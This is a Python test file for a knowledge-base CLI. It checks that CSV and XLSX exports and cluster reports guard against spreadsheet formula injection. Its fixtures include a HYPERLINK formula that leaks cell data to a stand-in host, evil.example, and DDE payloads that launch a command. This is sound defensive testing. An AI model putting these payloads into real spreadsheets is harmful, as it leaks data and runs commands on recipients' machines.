"""Spreadsheets we write never hold a live formula (issue 16, item 5): `kb export` headers as
well as cells (CSV and XLSX), and every cell of `kb clusters --csv/--summary-csv`. The CLI
through click's runner on a real base built from a generated ledger."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from click.testing import CliRunner
from openpyxl import load_workbook

from kb.cli.main import main
from tests.conftest import HEADERS, ROWS, write_ledger

EVIL_HEADER = '=HYPERLINK("http://evil.example/?leak="&A2,"詳細")'
EVIL_TITLE = "=cmd|' /C calc'!A0"
EVIL_PRODUCT = "@SUM(1+1)*cmd|' /C calc'!A0"
LIVE_START = ("=", "+", "-", "@")


def _run(*args: str) -> str:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result.output


def _hostile_base(tmp_path: Path) -> str:
    rows = [[*row, "社外秘"] for row in ROWS]
    rows[0][2], rows[1][9] = EVIL_TITLE, EVIL_PRODUCT  # 件名, 商品
    ledger = write_ledger(tmp_path / "hostile.csv", rows, headers=[*HEADERS, EVIL_HEADER])
    index = str(tmp_path / "kb")
    _run("--index", index, "ingest", str(ledger))
    return index


def test_export_headers_are_guarded_in_csv_and_xlsx_and_reimport_unchanged(tmp_path: Path) -> None:
    index = _hostile_base(tmp_path)
    out_csv, out_xlsx = tmp_path / "cases.csv", tmp_path / "cases.xlsx"
    _run("--index", index, "export", str(out_csv))
    _run("--index", index, "export", str(out_xlsx))
    header, *rows = list(csv.reader(io.StringIO(out_csv.read_text(encoding="utf-8-sig"))))
    assert "'" + EVIL_HEADER in header and EVIL_HEADER not in header
    for cell in [*header, *(c for r in rows for c in r)]:
        assert not cell.startswith(LIVE_START), cell
    sheet = load_workbook(out_xlsx).active
    cells = [c for r in sheet.iter_rows() for c in r if c.value is not None]
    assert EVIL_HEADER in [c.value for c in sheet[1]]
    assert all(c.data_type != "f" for c in cells)  # text, never a formula, header row too
    out = _run("--index", index, "ingest", str(out_csv))  # our guard comes off on the way back
    assert f"{len(ROWS)} unchanged" in out, out


def test_cluster_csvs_guard_every_cell(tmp_path: Path) -> None:
    index = _hostile_base(tmp_path)
    cases, summary = tmp_path / "cluster_cases.csv", tmp_path / "clusters.csv"
    _run("--index", index, "clusters", "--csv", str(cases), "--summary-csv", str(summary))
    case_cells = [c for r in csv.reader(io.StringIO(cases.read_text(encoding="utf-8-sig")))
                  for c in r]
    summary_cells = [c for r in csv.reader(io.StringIO(summary.read_text(encoding="utf-8-sig")))
                     for c in r]
    assert "'" + EVIL_TITLE in case_cells and "'" + EVIL_PRODUCT in case_cells
    assert any(EVIL_PRODUCT in c for c in summary_cells)  # the top products column
    for cell in case_cells + summary_cells:
        assert not cell.startswith(LIVE_START), cell
